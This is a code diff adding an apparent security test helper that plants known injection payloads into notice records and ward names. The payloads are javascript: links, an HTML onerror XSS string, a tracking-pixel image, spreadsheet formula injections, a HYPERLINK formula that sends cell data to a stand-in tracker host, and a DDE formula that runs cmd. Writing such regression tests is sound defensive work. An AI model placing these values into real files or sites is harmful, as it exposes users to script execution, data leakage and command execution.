@@ -69,3 +69,30 @@ def rename_wards(project: Project, name: Callable[[int, str], str]) -> list[str]
         names.append(feature["properties"]["name"])
     path.write_text(json.dumps(data), encoding="utf-8")
     return names
+
+
+# The exact payloads of the three holes an independent check found (issue 17).
+DOCUMENT = "JaVaScRiPt:alert(1)"
+ADDRESS = "[click me](javascript:alert(1))"
+IMAGE = "![x](https://tracker.example/pixel.png)"
+PAYLOAD_FORMULAS = {
+    "Breach Summary": '=HYPERLINK("https://tracker.example/?"&A1,"x")',
+    "Requirements": "+1+1", "Activity Prohibited": "-2+3", "Compliance Period": "@SUM(1,1)",
+    "Permission Ref": "=1+1"}
+WARD_HTML = "<img src=x onerror=alert(1)>"
+WARD_FORMULA = "=cmd|' /C calc'!A0"
+
+
+def plant_payloads(project: Project) -> list[dict[str, str]]:
+    """Every notice gets the document link and the formulas; every address is a
+    Markdown link and every reference a Markdown image; the wards are named with HTML
+    and with a formula, in turn."""
+    def change(index: int, row: dict[str, str]) -> None:
+        row["Document"] = DOCUMENT
+        row["Site Address"] = f"{ADDRESS} {index}"
+        row["Notice Ref"] = f"{IMAGE} {index}"
+        row.update({column: f"{value} {index}" for column, value in PAYLOAD_FORMULAS.items()})
+
+    rows = rewrite_notices(project, change)
+    rename_wards(project, lambda i, _: f"{WARD_HTML if i % 2 else WARD_FORMULA} {i}")
+    return rows
